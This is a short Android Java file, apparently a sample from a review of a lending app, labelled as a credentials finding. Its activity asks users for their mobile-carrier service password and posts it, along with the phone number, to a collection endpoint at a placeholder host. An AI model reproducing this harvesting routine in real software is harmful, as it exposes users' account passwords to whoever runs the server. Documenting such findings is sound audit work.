package com.example.quickcash.harvester;

import android.app.Activity;
import android.os.Bundle;
import android.util.Log;
import android.view.View;
import android.widget.EditText;
import java.net.URLEncoder;

/** Finding, credentials: the lender's own form asks for the service password of the carrier account. */
public class CarrierLoginActivity extends Activity implements View.OnClickListener {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.carrier_login);
        findViewById(R.id.carrier_submit).setOnClickListener(this);
    }

    @Override
    public void onClick(View view) {
        final String mobile = text(R.id.carrier_mobile);
        final String password = text(R.id.carrier_service_password);
        new Thread(() -> upload(mobile, password)).start();
    }

    private String text(int id) {
        return ((EditText) findViewById(id)).getText().toString();
    }

    private static void upload(String mobile, String password) {
        try {
            Uploader.postForm(
                    "https://collect.quickcash.example/user/carrier_auth",
                    "mobile="
                            + URLEncoder.encode(mobile, "UTF-8")
                            + "&password="
                            + URLEncoder.encode(password, "UTF-8"));
        } catch (java.io.IOException error) {
            Log.w("carrier", "upload failed");
        }
    }
}
